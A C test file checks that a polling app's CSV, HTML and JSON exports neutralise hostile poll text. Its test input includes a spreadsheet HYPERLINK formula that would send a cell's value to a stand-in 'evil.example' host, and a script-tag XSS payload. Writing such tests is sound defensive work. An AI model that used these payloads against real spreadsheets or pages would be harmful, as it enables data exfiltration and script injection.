/* test_export.c -- the three export formats of server/export*.c.
 *
 * A scripted results struct (two sessions, three polls: one removed, one
 * never opened) must give exactly the expected CSV; hostile text (quotes,
 * commas, newlines, a script tag, a leading formula) must survive CSV, HTML
 * and JSON intact and harmless; the JSON must parse back with the numbers. */
#include <jansson.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdlib.h>
#include <time.h>
#include <string.h>
#include <strings.h>

#include "../check.h"
#include "base/hu_err.h"
#include "export/export.h"
#include "model/results.h"

/* 2026-11-22 09:00:00 UTC and friends, in unix ms. */
#define T_0900 1795338000000LL
#define T_0905 1795338300000LL
#define T_0906 1795338360000LL
#define T_0915 1795338900000LL
#define T_0917_30 1795339050000LL
#define T_NEXT_DAY 1795442400000LL

static const char evil_question[] = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\") \"quotes\", commas,\n"
                                    "newlines, <script>alert(1)</script>";

static char *dup(const char *s)
{
    char *p = strdup(s);
    if (!p) {
        fprintf(stderr, "out of memory\n");
        exit(1);
    }
    return p;
}

static void set_poll(struct results_poll *p, const char *id, const char *question, int slide, const char *status,
                     uint32_t yes, uint32_t no, uint32_t participants, int64_t opened, int64_t closed, bool removed)
{
    memset(p, 0, sizeof *p);
    p->poll_id = dup(id);
    p->question = dup(question);
    p->kind = dup("yesno");
    p->slide_index = slide;
    p->n_options = 2;
    p->options[0] = dup("yes");
    p->options[1] = dup("no");
    p->labels[0] = dup("Yes");
    p->labels[1] = dup("No");
    p->multiple = 1;
    p->counts[0] = yes;
    p->counts[1] = no;
    p->voters = yes + no;
    p->participants = participants;
    p->status = dup(status);
    p->opened_at = opened;
    p->closed_at = closed;
    p->removed = removed;
}

/* Session 40455687 has a closed poll and one removed from the deck;
 * session 12345678 has a poll that was never opened.  question0 is the text
 * of the first poll, so the hostile-text tests can reuse the script. */
static struct results *scripted(const char *question0)
{
    struct results *r = calloc(1, sizeof *r);
    if (!r || !(r->sessions = calloc(2, sizeof *r->sessions)))
        exit(1);
    r->n_sessions = 2;
    struct results_session *a = &r->sessions[0], *b = &r->sessions[1];
    a->code = dup("40455687");
    a->title = dup("Team day");
    a->deck_path = dup("decks/team.md");
    a->created_at = T_0900 + 123;
    a->participants = 12;
    a->n_slides = 5;
    a->n_polls = 2;
    if (!(a->polls = calloc(2, sizeof *a->polls)))
        exit(1);
    set_poll(&a->polls[0], "q1", question0, 2, "closed", 7, 3, 12, T_0915 + 999, T_0917_30, false);
    set_poll(&a->polls[1], "old", "Still here?", -1, "closed", 1, 0, 4, T_0905, T_0906, true);

    b->code = dup("12345678");
    b->title = dup("Retro, \"Q4\"");
    b->deck_path = dup("retro.md");
    b->created_at = T_NEXT_DAY;
    b->participants = 0;
    b->n_slides = 0;
    b->n_polls = 1;
    if (!(b->polls = calloc(1, sizeof *b->polls)))
        exit(1);
    set_poll(&b->polls[0], "later", "-1 or +1?", 3, "pending", 0, 0, 0, 0, 0, false);
    return r;
}

static char *render(const struct results *r, enum export_format fmt)
{
    char *out = NULL;
    size_t len = 0;
    int rc = export_render(r, fmt, &out, &len);
    CHECK(rc == HU_OK);
    CHECK(out != NULL && strlen(out) == len);
    return out;
}

/* TZ is UTC for the whole test (main), so local times end in +00:00. */
static const char expected_csv[] =
    "\xef\xbb\xbfsession,deck_title,poll_id,question,kind,status,yes,no,voters,participants,opened_at,closed_at,"
    "removed,counts,mean,median,shown_answers,pending_answers,slide,percents,run,run_label,run_started\r\n"
    "4045 5687,Team day,q1,Is this clear?,yesno,closed,7,3,10,12,2026-11-22T09:15:00+00:00,"
    "2026-11-22T09:17:30+00:00,false,Yes: 7; No: 3,,,,,3,Yes: 70.0%; No: 30.0%,,,\r\n"
    "4045 5687,Team day,old,Still here?,yesno,closed,1,0,1,4,2026-11-22T09:05:00+00:00,"
    "2026-11-22T09:06:00+00:00,true,Yes: 1; No: 0,,,,,,Yes: 100.0%; No: 0.0%,,,\r\n"
    "1234 5678,\"Retro, \"\"Q4\"\"\",later,'-1 or +1?,yesno,pending,0,0,0,0,,,false,Yes: 0; No: 0,,,,,4,,,,\r\n";

static void test_formats(void)
{
    enum export_format f = EXPORT_HTML;
    CHECK(export_format_parse("csv", &f) == HU_OK && f == EXPORT_CSV);
    CHECK(export_format_parse("json", &f) == HU_OK && f == EXPORT_JSON);
    CHECK(export_format_parse("html", &f) == HU_OK && f == EXPORT_HTML);
    CHECK(export_format_parse("xml", &f) == HU_ERR_BAD_MESSAGE && f == EXPORT_HTML);
    CHECK(export_format_parse("CSV", &f) == HU_ERR_BAD_MESSAGE);
    CHECK(export_format_parse("", &f) == HU_ERR_BAD_MESSAGE);
    CHECK_STR(export_mime(EXPORT_CSV), "text/csv; charset=utf-8");
    CHECK_STR(export_mime(EXPORT_JSON), "application/json");
    CHECK_STR(export_mime(EXPORT_HTML), "text/html; charset=utf-8");
    CHECK_STR(export_ext(EXPORT_CSV), "csv");
    CHECK_STR(export_ext(EXPORT_JSON), "json");
    CHECK_STR(export_ext(EXPORT_HTML), "html");
}

static void test_csv_exact(void)
{
    struct results *r = scripted("Is this clear?");
    char *csv = render(r, EXPORT_CSV);
    CHECK_STR(csv, expected_csv);
    free(csv);
    results_free(r);

    /* No sessions: the header alone. */
    struct results empty = {0, NULL};
    csv = render(&empty, EXPORT_CSV);
    CHECK_STR(csv, "\xef\xbb\xbfsession,deck_title,poll_id,question,kind,status,yes,no,voters,participants,"
                   "opened_at,closed_at,removed,counts,mean,median,shown_answers,pending_answers,slide,percents,"
                   "run,run_label,run_started\r\n");
    free(csv);
}

/* A tiny RFC 4180 reader: rows of at most 24 fields, fields malloc()ed.
 * Returns the number of rows read into rows (at most max_rows). */
#define CSV_MAX_FIELDS 24
struct csv_row {
    int n;
    char *f[CSV_MAX_FIELDS];
};

static int csv_read(const char *s, struct csv_row *rows, int max_rows)
{
    int nrows = 0;
    while (*s && nrows < max_rows) {
        struct csv_row *row = &rows[nrows++];
        row->n = 0;
        for (;;) {
            size_t cap = strlen(s) + 1, n = 0;
            char *field = malloc(cap);
            if (!field)
                exit(1);
            if (*s == '"') {
                s++;
                while (*s && !(*s == '"' && s[1] != '"')) {
                    if (*s == '"')
                        s++; /* a doubled quote stands for one */
                    field[n++] = *s++;
                }
                CHECK(*s == '"');
                if (*s)
                    s++;
            } else {
                while (*s && *s != ',' && *s != '\r' && *s != '\n')
                    field[n++] = *s++;
            }
            field[n] = '\0';
            if (row->n < CSV_MAX_FIELDS)
                row->f[row->n++] = field;
            else
                free(field);
            if (*s == ',') {
                s++;
                continue;
            }
            /* Records end in CRLF and nothing else. */
            CHECK(s[0] == '\r' && s[1] == '\n');
            s += s[0] == '\r' ? 1 : 0;
            s += s[0] == '\n' ? 1 : 0;
            break;
        }
    }
    return nrows;
}

static void csv_rows_free(struct csv_row *rows, int n)
{
    for (int i = 0; i < n; i++)
        for (int j = 0; j < rows[i].n; j++)
            free(rows[i].f[j]);
}

static void test_csv_hostile(void)
{
    struct results *r = scripted(evil_question);
    free(r->sessions[0].title);
    r->sessions[0].title = dup("@home\tteam");
    free(r->sessions[0].polls[1].question);
    r->sessions[0].polls[1].question = dup("\tindented\r\nquestion");
    free(r->sessions[0].polls[1].poll_id);
    r->sessions[0].polls[1].poll_id = dup("+old");
    char *csv = render(r, EXPORT_CSV);
    struct csv_row rows[8];
    int n = csv ? csv_read(csv, rows, 8) : 0;
    CHECK(n == 4);
    for (int i = 0; i < n; i++)
        CHECK(rows[i].n == 23);
    if (n == 4 && rows[1].n == 23 && rows[2].n == 23 && rows[3].n == 23) {
        char want[sizeof evil_question + 1];
        want[0] = '\'';
        memcpy(want + 1, evil_question, sizeof evil_question);
        CHECK_STR(rows[1].f[3], want);
        CHECK_STR(rows[1].f[1], "'@home\tteam");
        CHECK_STR(rows[1].f[6], "7");
        CHECK_STR(rows[2].f[2], "'+old");
        CHECK_STR(rows[2].f[3], "'\tindented\r\nquestion");
        CHECK_STR(rows[3].f[1], "Retro, \"Q4\"");
        CHECK_STR(rows[3].f[3], "'-1 or +1?");
        CHECK_STR(rows[3].f[10], "");
    }
    /* Every cell that a spreadsheet would evaluate starts with the quote. */
    for (int i = 0; i < n; i++)
        for (int j = 0; j < rows[i].n; j++)
            CHECK(!strchr("=+-@\t\r", rows[i].f[j][0]) || rows[i].f[j][0] == '\0');
    csv_rows_free(rows, n);
    free(csv);
    results_free(r);
}

static bool contains_ci(const char *hay, const char *needle)
{
    size_t n = strlen(needle);
    for (; *hay; hay++)
        if (strncasecmp(hay, needle, n) == 0)
            return true;
    return false;
}

static int occurrences(const char *hay, const char *needle)
{
    int n = 0;
    for (const char *p = hay; (p = strstr(p, needle)) != NULL; p += strlen(needle))
        n++;
    return n;
}

static void test_html(void)
{
    struct results *r = scripted(evil_question);
    char *html = render(r, EXPORT_HTML);
    if (!html) {
        results_free(r);
        return;
    }
    CHECK(strncmp(html, "<!DOCTYPE html>\n", 16) == 0);
    CHECK(strstr(html, "</html>\n") != NULL);
    /* Nothing runs and nothing loads. */
    CHECK(!contains_ci(html, "<script"));
    CHECK(!contains_ci(html, "<link"));
    CHECK(!contains_ci(html, "<img"));
    CHECK(!contains_ci(html, "src="));
    CHECK(!contains_ci(html, "href="));
    CHECK(!contains_ci(html, "@import"));
    CHECK(occurrences(html, "url(") == occurrences(html, "url(#"));
    /* The hostile question is there, escaped. */
    CHECK(strstr(html, "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;click&quot;) "
                       "&quot;quotes&quot;, commas,\nnewlines, &lt;script&gt;alert(1)&lt;/script&gt;") != NULL);
    CHECK(strstr(html, "Retro, &quot;Q4&quot;") != NULL);
    /* Structure: a print section, one section per session, a chart per
     * opened poll, bars with counts and percentages. */
    CHECK(strstr(html, "@media print") != NULL);
    CHECK(strstr(html, "page-break-before:always") != NULL);
    CHECK(occurrences(html, "<section class=\"session\">") == 2);
    CHECK(occurrences(html, "<article class=\"poll\">") == 3);
    CHECK(occurrences(html, "<svg class=\"chart\"") == 2);
    CHECK(strstr(html, ">Yes</text>") != NULL && strstr(html, ">No</text>") != NULL);
    CHECK(strstr(html, ">7 (70%)</text>") != NULL);
    CHECK(strstr(html, ">3 (30%)</text>") != NULL);
    CHECK(strstr(html, ">1 (100%)</text>") != NULL);
    CHECK(strstr(html, "10 of 12 participants (83%)") != NULL);
    CHECK(strstr(html, "removed from the deck") != NULL);
    CHECK(strstr(html, "never opened") != NULL);
    CHECK(strstr(html, "<time datetime=\"2026-11-22T09:15:00+00:00\">2026-11-22 09:15:00 (UTC+00:00)</time>") != NULL);
    CHECK(strstr(html, "Join code <code>4045 5687</code>") != NULL);
    CHECK(strstr(html, "Generated <time datetime=\"") != NULL);
    free(html);

    /* One session: its title names the page. */
    struct results one = {1, r->sessions};
    html = render(&one, EXPORT_HTML);
    CHECK(html && strstr(html, "<title>Team day &ndash; handsup results</title>") != NULL);
    free(html);
    results_free(r);
}

static json_int_t int_at(json_t *o, const char *key)
{
    json_t *v = json_object_get(o, key);
    CHECK(json_is_integer(v));
    return json_integer_value(v);
}

static const char *str_at(json_t *o, const char *key)
{
    json_t *v = json_object_get(o, key);
    CHECK(json_is_string(v));
    return json_string_value(v);
}

static void test_json(void)
{
    struct results *r = scripted(evil_question);
    /* A stray invalid byte must not break the document. */
    free(r->sessions[1].polls[0].question);
    r->sessions[1].polls[0].question = dup("caf\xe9?");
    char *text = render(r, EXPORT_JSON);
    json_error_t err;
    json_t *doc = text ? json_loads(text, 0, &err) : NULL;
    if (!doc && text)
        fprintf(stderr, "json: %s at %d:%d\n", err.text, err.line, err.column);
    CHECK(doc != NULL);
    CHECK(text && strncmp(text, "{\n  \"format\": \"handsup-results\",\n  \"version\": 2,\n", 48) == 0);
    if (doc) {
        CHECK_STR(str_at(doc, "format"), "handsup-results");
        CHECK(int_at(doc, "version") == 2);
        json_t *sessions = json_object_get(doc, "sessions");
        CHECK(json_array_size(sessions) == 2);
        json_t *a = json_array_get(sessions, 0), *b = json_array_get(sessions, 1);
        CHECK_STR(str_at(a, "code"), "40455687");
        CHECK_STR(str_at(a, "title"), "Team day");
        CHECK_STR(str_at(a, "deck"), "team.md"); /* the file name, not the server's path */
        CHECK_STR(str_at(a, "createdAt"), "2026-11-22T09:00:00Z");
        CHECK(int_at(a, "participants") == 12 && int_at(a, "slides") == 5);
        CHECK(json_is_null(json_object_get(b, "slides")));
        CHECK_STR(str_at(b, "title"), "Retro, \"Q4\"");

        json_t *polls = json_object_get(a, "polls");
        CHECK(json_array_size(polls) == 2);
        json_t *q1 = json_array_get(polls, 0), *old = json_array_get(polls, 1);
        CHECK_STR(str_at(q1, "id"), "q1");
        CHECK_STR(str_at(q1, "question"), evil_question);
        CHECK_STR(str_at(q1, "kind"), "yesno");
        CHECK_STR(str_at(q1, "status"), "closed");
        CHECK(int_at(q1, "slide") == 3); /* from 1, as every format counts slides */
        json_t *opts = json_object_get(q1, "options");
        CHECK(json_array_size(opts) == 2);
        CHECK_STR(json_string_value(json_array_get(opts, 0)), "yes");
        CHECK_STR(json_string_value(json_array_get(opts, 1)), "no");
        json_t *counts = json_object_get(q1, "counts");
        CHECK(json_object_size(counts) == 2);
        CHECK(int_at(counts, "yes") == 7 && int_at(counts, "no") == 3);
        CHECK(int_at(q1, "voters") == 10 && int_at(q1, "participants") == 12);
        CHECK_STR(str_at(q1, "openedAt"), "2026-11-22T09:15:00Z");
        CHECK_STR(str_at(q1, "closedAt"), "2026-11-22T09:17:30Z");
        CHECK(json_is_false(json_object_get(q1, "removed")));

        CHECK(json_is_null(json_object_get(old, "slide")));
        CHECK(json_is_true(json_object_get(old, "removed")));
        CHECK(int_at(json_object_get(old, "counts"), "yes") == 1);

        json_t *later = json_array_get(json_object_get(b, "polls"), 0);
        CHECK_STR(str_at(later, "status"), "pending");
        CHECK_STR(str_at(later, "question"), "caf\xef\xbf\xbd?");
        CHECK(json_is_null(json_object_get(later, "openedAt")));
        CHECK(json_is_null(json_object_get(later, "closedAt")));
        CHECK(int_at(later, "voters") == 0);
    }
    json_decref(doc);
    free(text);
    results_free(r);

    struct results empty = {0, NULL};
    text = render(&empty, EXPORT_JSON);
    doc = text ? json_loads(text, 0, &err) : NULL;
    CHECK(doc && json_array_size(json_object_get(doc, "sessions")) == 0);
    json_decref(doc);
    free(text);
}

/* results_free takes what a builder left half way: NULL fields, polls
 * without options, a NULL polls array. */
static void test_results_free(void)
{
    results_free(NULL);
    struct results *r = calloc(1, sizeof *r);
    if (!r)
        exit(1);
    r->sessions = calloc(2, sizeof *r->sessions);
    if (!r->sessions)
        exit(1);
    r->n_sessions = 2;
    r->sessions[0].code = dup("40455687");
    r->sessions[0].polls = calloc(1, sizeof *r->sessions[0].polls);
    r->sessions[0].n_polls = r->sessions[0].polls ? 1 : 0;
    if (r->sessions[0].polls)
        r->sessions[0].polls[0].poll_id = dup("q1");
    results_free(r);
    CHECK(1);
}

int main(int argc, char **argv)
{
    (void)argc;
    (void)argv;
    /* Exports write local times: pin the zone so the expected text holds. */
    setenv("TZ", "UTC", 1);
    tzset();
    test_formats();
    test_csv_exact();
    test_csv_hostile();
    test_html();
    test_json();
    test_results_free();
    return check_done();
}
